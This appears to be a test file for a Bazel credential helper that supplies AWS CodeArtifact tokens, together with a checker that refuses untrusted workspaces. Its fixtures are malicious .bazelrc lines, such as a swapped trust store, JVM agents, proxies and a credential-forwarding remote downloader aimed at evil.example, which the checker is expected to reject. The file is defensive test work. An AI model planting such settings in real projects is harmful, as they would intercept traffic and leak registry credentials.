import { expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { answer, parseRequest, placeOf } from "../../../src/tools/bazel/credential-helper.ts";
import { checkWorkspace } from "../../../src/tools/bazel/workspace.ts";
import { rejection } from "../../rejection.ts";
import { tempFolder } from "../../temp-folder.ts";

const host = "https://my-domain-123456789012.d.codeartifact.us-east-1.amazonaws.com";

test.each([
  [`{"uri":"https://x.example/"}`],
  [` {"uri": "https://x.example/", "more": [1]}\n`],
  [`{\n  "uri": "https://x.example/"\n}\n\n`],
])("the request %j names its URI", (text) => {
  expect(parseRequest(text)).toBe("https://x.example/");
});

test.each([
  [""],
  ["x"],
  ["null"],
  ["[]"],
  [`"https://x.example/"`],
  ["{}"],
  [`{"url":"https://x.example/"}`],
  [`{"uri":""}`],
  [`{"uri":1}`],
  [`{"uri":["https://x.example/"]}`],
  [`{"uri":"https://x.example/"} {"uri":"https://y.example/"}`],
])("%j is no request", async (text) => {
  const error = await rejection(Promise.try(() => parseRequest(text)));
  expect(error).toMatchObject({ code: "protocol_error" });
});

test.each([
  ["https://x.example/a/b?c=d#e", "https://x.example/a/b"],
  ["https://x.example/@scope%20a/b", "https://x.example/@scopexa/b"],
  ["https://x.example/a%2fb", "https://x.example/a%2fb"],
  ["https://x.example/a%2E%2e/b", "https://x.example/a%2E%2e/b"],
  ["https://x.example/a%00", "https://x.example/a%00"],
  ["https://x%2eexample/a", "https://x%2eexample/a"],
  ["https://evil.example?@x.example/a", "https://evil.example"],
  ["https://evil.example#@x.example/a", "https://evil.example"],
])("%s is looked up as %s", (uri, place) => {
  expect(placeOf(uri)).toBe(place);
});

test.each([
  ["cargo", "TOKEN"],
  ["generic", `Basic ${btoa("aws:TOKEN")}`],
  ["maven", `Basic ${btoa("aws:TOKEN")}`],
  ["npm", "Bearer TOKEN"],
  ["pypi", `Basic ${btoa("aws:TOKEN")}`],
])("the answer for an endpoint of the format %s has its header, and its end to the second", (format, header) => {
  expect(JSON.parse(answer(`${host}/${format}/my-repo/`, "TOKEN", 1_800_000_000))).toEqual({
    expires: "2027-01-15T08:00:00Z",
    headers: { Authorization: [header] },
  });
});

/** Looks at a workspace with these files. */
function look(files: Record<string, string>): void {
  using folder = tempFolder();
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder.path, name)), { recursive: true });
    writeFileSync(join(folder.path, name), text);
  }
  checkWorkspace(folder.path);
}

test.each<[string, Record<string, string>]>([
  ["a trust store", { ".bazelrc": "startup --host_jvm_args=-Djavax.net.ssl.trustStore=evil.jks\n" }],
  ["with quotes", { ".bazelrc": `startup "--host_jvm_args=-Djavax.net.'ssl'.trust\\Store=evil.jks"\n` }],
  ["over two lines", { ".bazelrc": "startup --host_jvm_args=-Djavax.net.ssl.trust\\\nStore=evil.jks\n" }],
  ["an agent", { ".bazelrc": "startup --host_jvm_args -javaagent:x.jar" }],
  ["a proxy of Java's", { ".bazelrc": "startup --host_jvm_args=-Dhttps.proxyHost=evil.example" }],
  ["options of Java in a file", { ".bazelrc": "startup --host_jvm_args=-XX:VMOptionsFile=vm.options" }],
  ["flags of Java in a file", { ".bazelrc": 'startup --host_jvm_args="-XX:Flags=vm.flags"' }],
  ["security properties", { ".bazelrc": "startup --host_jvm_args=-Djava.security.properties=own" }],
  ["a name service", { ".bazelrc": "startup --host_jvm_args=-Djdk.net.hosts.file=hosts" }],
  ["arguments of Java in a file", { ".bazelrc": "startup --host_jvm_args=@file" }],
  ["authorities of Java's", { ".bazelrc": "startup --host_jvm_args=-Djava.home=jdk" }],
  ["the second of two", { ".bazelrc": "startup --host_jvm_args=-Xmx4g --host_jvm_args=-XX:Flags=x" }],
  ["a debugger", { ".bazelrc": "startup --host_jvm_debug" }],
  ["a Java of its own", { ".bazelrc": "startup --server_javabase=jdk" }],
  ["an authority of its own", { ".bazelrc": "build --tls_certificate=evil.pem" }],
  ["an import with a comment", { ".bazelrc": "import a#b", a: "build --remote_proxy=unix:x" }],
  ["an import with a comment apart", { ".bazelrc": "import %workspace%/a # b", a: "build --remote_proxy=unix:x" }],
  ["an import of versions", { ".bazelrc": "try-import-if-bazel-version >=8.0 a", a: "build --remote_proxy=unix:x" }],
  ["a proxy of downloads", { ".bazelrc": "common --repo_env=HTTPS_PROXY=http://evil.example" }],
  ["a proxy of the cache", { ".bazelrc": "build --remote_proxy=unix:/tmp/evil" }],
  [
    "a downloader that gets credentials",
    { ".bazelrc": "common --remote_downloader=grpcs://evil.example --remote_downloader_propagate_credentials" },
  ],
  [
    "the same by its former name",
    { ".bazelrc": "build --experimental_remote_downloader_propagate_credentials=true\n" },
  ],
  ["an import", { ".bazelrc": "try-import %workspace%/a/b.rc", "a/b.rc": "common --repo_env https_proxy=x" }],
  ["an import of an import", { ".bazelrc": "import a", a: "import b", b: "build --remote_proxy=unix:x" }],
  [
    "imports without end",
    Object.fromEntries([
      [".bazelrc", "import 0"],
      ...Array.from({ length: 80 }, (_, n) => [`${n}`, `import ${n + 1}`]),
    ]),
  ],
])("a workspace is refused for %s", async (_, files) => {
  const error = await rejection(Promise.try(() => look(files)));
  expect(error).toMatchObject({ code: "project_untrusted" });
});

test.each<[string, Record<string, string>]>([
  ["no .bazelrc", {}],
  ["an honest one", { ".bazelrc": "startup --host_jvm_args=-Xmx4g\nbuild --jobs=4\n# --remote_proxy=unix:x\n" }],
  [
    "options of Java that lead nowhere",
    {
      ".bazelrc":
        "startup --host_jvm_args=-XX:+UseParallelGC --host_jvm_args=-Djava.net.preferIPv6Addresses=true\nstartup --host_jvm_args=-XX:MaxMetaspaceSize=1g --server_javabase=/usr/lib/jvm/java-21\n",
    },
  ],
  ["a downloader without credentials", { ".bazelrc": "build --remote_downloader_propagate_credentials=false\n" }],
  ["an import that is not there", { ".bazelrc": "try-import %workspace%/user.bazelrc" }],
  ["imports in a circle", { ".bazelrc": "import a", a: "import .bazelrc" }],
])("a workspace with %s passes", (_, files) => {
  expect(() => look(files)).not.toThrow();
});
